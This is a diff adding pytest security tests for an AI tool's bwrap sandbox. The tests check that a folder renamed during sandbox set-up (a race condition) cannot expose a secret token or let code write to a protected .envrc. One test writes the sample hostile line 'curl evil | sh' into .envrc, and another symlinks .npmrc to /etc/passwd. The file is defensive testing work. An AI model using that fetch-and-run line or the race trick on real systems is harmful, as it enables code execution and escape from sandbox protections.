@@ -1,0 +1,129 @@
+"""Code of one step changing the workspace while another step's sandbox is being set up.
+
+Parallel steps run code in the same workspace at the same time. The jail binds read-only entries
+by path, after a scan; a program already running can rename a folder between that scan and
+bwrap's set-up. These tests make that move at that exact moment (as a running program would,
+winning the race) by wrapping the last step before bwrap starts.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from masterplanner.sandbox import jail, pool, sandbox_problems
+from masterplanner.tools.code_execution import execute_code
+from masterplanner.tools.workspace import Workspace
+
+pytestmark = pytest.mark.security
+
+
+@pytest.fixture(autouse=True)
+def _sandbox_available() -> None:
+    problems = sandbox_problems()
+    if problems:
+        message = "the sandbox cannot start: " + "; ".join(problems)
+        if os.environ.get("CI"):
+            pytest.fail(message)
+        pytest.skip(message)
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Workspace:
+    return Workspace(tmp_path / "ws").create()
+
+
+def _just_before_bwrap(monkeypatch: pytest.MonkeyPatch, move: Callable[[], None]) -> None:
+    """Run `move` after the scan, right before bwrap starts (where a concurrent program may act)."""
+    original = jail._command
+
+    def command_then_move(*args: Any, **kwargs: Any) -> list[str]:
+        command = original(*args, **kwargs)
+        move()
+        return command
+
+    monkeypatch.setattr(jail, "_command", command_then_move)
+
+
+def _as_sandbox_user(path: Path) -> None:
+    """What the other step's program creates belongs to the sandbox uid (as root; else to us)."""
+    uids = pool.leased_uids()
+    if uids:
+        os.chown(path, uids[0], uids[0])
+
+
+def _move_sub_aside(root: Path) -> Callable[[], None]:
+    def move() -> None:
+        (root / "sub").rename(root / "aside")
+        (root / "sub").mkdir()
+        _as_sandbox_user(root / "sub")
+
+    return move
+
+
+def test_a_settings_backup_moved_aside_during_set_up_stays_unread(
+    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Before, the empty file was bound in the new folder and the program read the real one whole."""
+    root = workspace.root
+    (root / "sub").mkdir()
+    (root / "sub" / "masterplanner.toml.bak").write_text('[mcp_servers.x]\nenv = { TOKEN = "sk-secret" }\n')
+    _just_before_bwrap(monkeypatch, _move_sub_aside(root))
+    result = asyncio.run(
+        execute_code(workspace, "python", "print(repr(open('aside/masterplanner.toml.bak').read()))")
+    )
+    assert "sk-secret" not in result.stdout
+    assert (result.exit_code, result.stdout) == (125, "")
+    assert result.stderr == (
+        "sandbox: the read-only entry 'sub/masterplanner.toml.bak' is not where it was (sub was replaced): "
+        "the workspace changed while the sandbox was being set up (code running at the same time in "
+        "this workspace?); the program was not run\n"
+    )
+
+
+def test_a_protected_entry_moved_aside_during_set_up_stays_read_only(
+    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Before, the read-only bind landed in the new folder and the program rewrote the real `.envrc`."""
+    root = workspace.root
+    (root / "sub").mkdir()
+    (root / "sub" / ".envrc").write_text("export A=1\n")
+    (root / "sub" / ".envrc").chmod(0o666)  # even if its mode lets anyone write
+    original = _move_sub_aside(root)
+
+    def move() -> None:
+        original()
+        (root / "sub" / ".envrc").write_text("")  # bwrap binds it by path: it needs a source there
+        _as_sandbox_user(root / "sub" / ".envrc")
+
+    _just_before_bwrap(monkeypatch, move)
+    code = "open('aside/.envrc', 'a').write('curl evil | sh\\n')"
+    result = asyncio.run(execute_code(workspace, "python", code))
+    assert (root / "aside" / ".envrc").read_text() == "export A=1\n"
+    assert result.exit_code == 125
+    assert "'sub/.envrc' is not where it was (sub was replaced)" in result.stderr
+
+
+def test_read_only_entries_in_place_let_the_program_run(workspace: Workspace) -> None:
+    """The check passes on an untouched workspace: deep paths, names that are not UTF-8, symlinks."""
+    root = workspace.root
+    odd = os.fsdecode(b"dir\xff")
+    deep = root / odd / "a" / "b"
+    deep.mkdir(parents=True)
+    (deep / ".envrc").write_text("export A=1\n")
+    (deep / "masterplanner.toml").write_text("secret = 1\n")
+    (root / ".git").mkdir()
+    (root / ".npmrc").symlink_to("/etc/passwd")  # a protected symlink is not bound
+    code = (
+        "import os\n"
+        f"base = {os.fsencode(odd)!r} + b'/a/b/'\n"
+        "print(open(base + b'.envrc').read().strip(), repr(open(base + b'masterplanner.toml').read()))\n"
+        "print(os.path.isdir('.git'))"
+    )
+    result = asyncio.run(execute_code(workspace, "python", code))
+    assert (result.exit_code, result.stdout, result.stderr) == (0, "export A=1 ''\nTrue\n", "")
